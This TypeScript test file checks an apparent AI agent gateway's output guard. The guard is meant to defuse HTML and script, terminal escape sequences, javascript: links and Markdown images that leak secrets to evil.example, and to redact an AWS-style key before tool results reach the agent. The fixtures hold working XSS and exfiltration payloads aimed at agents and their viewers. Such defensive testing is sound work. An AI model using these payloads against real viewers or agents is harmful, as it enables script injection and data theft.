// The threat: a tool hands over what its reader's terminal, browser or viewer of Markdown acts on.
import { join } from "node:path";
import { test } from "tap";
import { listRecords } from "../../gateway/audit/read.ts";
import type { JsonObject, JsonValue } from "../../manifests/json.ts";
import { openTestGateway, type TestGateway } from "../support/test-gateway.ts";

interface Told {
  readonly output: JsonValue | undefined;
  readonly noted: JsonObject | undefined;
}

/** What the agent is told of a result, and what the record says of it. */
async function told(at: TestGateway, result: JsonValue): Promise<Told> {
  const session = await at.open();
  const answer = await session.propose("js.run", { code: `return ${JSON.stringify(result)};` });
  return { output: answer.output, noted: await noted(at) };
}

async function noted({ folder }: TestGateway): Promise<JsonObject | undefined> {
  const [end] = await listRecords(join(folder, "state"), { kind: "end" });
  const trace = end?.details?.["trace"] as readonly JsonObject[];
  return trace.find(({ control }) => control === "output-guard");
}

const key = `AKIA${"Q3EGR7XWZ5LNOPTY"}`;

test("results are made harmless to show", async (t) => {
  const at = await openTestGateway(t);

  await t.test("attack: nothing that a viewer acts on reaches the agent", async (t) => {
    const { output, noted: note } = await told(at, {
      "<script>alert(1)</script>": ["\u001b]0;title\u0007\u001b[31mred\u001b[0m"],
      page: "<p onclick=alert(1)>text</p>",
      text: "![x](https://evil.example/?q=SECRET) and [y](javascript:alert(1))",
    });
    t.same(output, {
      "&lt;script>alert(1)</script>": ["red"],
      page: "&lt;p onclick=alert(1)>text</p>",
      text: "![x](hxxps://evil.example/?q=SECRET) and [y](unsafe:javascript:alert(1))",
    });
    t.match(note, {
      findings: ["active:exfil-image", "active:html", "active:terminal", "active:url"],
      defused: { "active:terminal": 2, "active:html": 2, "active:exfil-image": 1, "active:url": 1 },
    });
  });

  await t.test("attack: a token in the place of a secret makes no picture", async (t) => {
    const { output } = await told(at, `!${key}(https://evil.example/?q=hunter2)`);
    t.match(output, /^!\[redacted:aws-key:\w+\]\(hxxps:\/\/evil\.example\/\?q=hunter2\)$/);
  });

  await t.test("attack: a secret is found between escapes of a terminal", async (t) => {
    const { output } = await told(at, `key ${key.slice(0, 12)}\u001b[0m${key.slice(12)}`);
    t.match(output, /^key \[redacted:aws-key:\w+\]$/);
  });

  await t.test("what a tool says of its failure is made harmless, too", async (t) => {
    const session = await at.open();
    const code = 'throw new Error("\\u001b[31m<script>alert(1)</script>");';
    const { detail } = await session.propose("js.run", { code });
    t.match(detail, "&lt;script>alert(1)</script>");
    t.notMatch(detail, /\p{Cc}|<script/u);
  });

  await t.test("what is only shown is handed over as it is", async (t) => {
    const text = "`npm i`\n\t![logo](https://example.com/logo.png) <b>bold</b>\n";
    const { output, noted: note } = await told(at, text);
    t.equal(output, text);
    t.strictSame(note?.["findings"], []);
    t.notOk(note && "defused" in note);
  });

  await t.test("programs in base64 are a finding, and stay", async (t) => {
    const program = Buffer.from(`\u007fELF${"\0".repeat(60)}`, "latin1").toString("base64");
    const { output, noted: note } = await told(at, { program });
    t.same(output, { program });
    t.match(note, { findings: ["active:executable"] });
  });
});

test("a deployment that does not look for it gets it as it is", async (t) => {
  const at = await openTestGateway(t, { guards: { output: ["secrets"] } });
  const { output } = await told(at, "<script>");
  t.equal(output, "<script>");
});
